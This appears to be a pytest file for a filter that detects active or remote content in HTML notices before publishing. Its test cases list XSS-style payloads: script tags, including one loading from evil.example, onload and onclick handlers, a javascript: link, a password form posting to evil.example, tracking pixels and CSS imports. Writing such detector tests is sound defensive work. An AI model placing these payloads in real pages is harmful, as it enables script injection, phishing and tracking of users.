from __future__ import annotations

from html import escape

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dispatcher.publishing.passive_html import active_part
from tests.kits import kit


def test_the_notice_only_shows_text() -> None:
    """What our own templates make is let through."""
    assert active_part(kit().files["notice.html"].decode()) is None


@pytest.mark.parametrize(
    ("html", "found"),
    [
        ("<p>Hello</p><script>alert(1)</script>", "<script>"),
        ("<SCRIPT SRC=//evil.example/x.js>", "<script>"),
        ("<p onclick='x()'>Hello</p>", "<p onclick>"),
        ("<img src='https://evil.example/pixel.gif'>", "<img>"),
        ("<form action='https://evil.example'><input name=password></form>", "<form>"),
        ("<a href='https://evil.example/login'>ECCS</a>", "a link to https://evil.example/login"),
        ("<a href='JavaScript:alert(1)'>ECCS</a>", "a link to JavaScript:alert(1)"),
        ("<iframe srcdoc='x'></iframe>", "<iframe>"),
        ("<svg/onload=alert(1)>", "<svg>"),
        ("<meta http-equiv=refresh content='0;url=https://evil.example'>", "<meta http-equiv>"),
        ("<p style='background: url(https://evil.example/x)'>x</p>", "<p style>"),
        ("<style>@import 'https://evil.example/x.css';</style>", "a style that loads something"),
        ("<style>p { background: u\\72l(x) }</style>", "a style that loads something"),
        ("<base href='https://evil.example/'>", "<base>"),
        ("<link rel=stylesheet href=x>", "<link>"),
        ("<!--[if IE]><script>x</script><![endif]-->", "a comment"),
        ("<!--><script>alert(1)</script>-->", "a comment"),
        ("<?xml version='1.0'?>", "an instruction"),
        ("<![CDATA[x]]>", "a declaration"),
        ("<math><mtext></mtext></math>", "<math>"),
        ("<button>Login</button>", "<button>"),
    ],
)
def test_what_does_more_is_found(html: str, found: str) -> None:
    """Scripts, handlers, forms, remote things, links that lead elsewhere: the first is named."""
    assert found == active_part(html)


@pytest.mark.parametrize(
    "html",
    [
        "<p>a &lt;script&gt; in words, and 3 < 4</p>",
        "<a href='mailto:eccs.helpdesk@icegate.gov.in'>write</a> <a href='tel:18002666882'>call</a>",
        "<!DOCTYPE html><html lang='hi'><table role='presentation'><tr><td style='color: red'>x</td></tr></table>",
    ],
)
def test_what_only_shows_text_is_let_through(html: str) -> None:
    """Words about a script are words."""
    assert active_part(html) is None


@given(st.text())
def test_any_escaped_text_is_let_through(text: str) -> None:
    """What an office writes is text, whatever it is, once it is escaped as our templates do."""
    assert active_part(f"<p>{escape(text)}</p>") is None
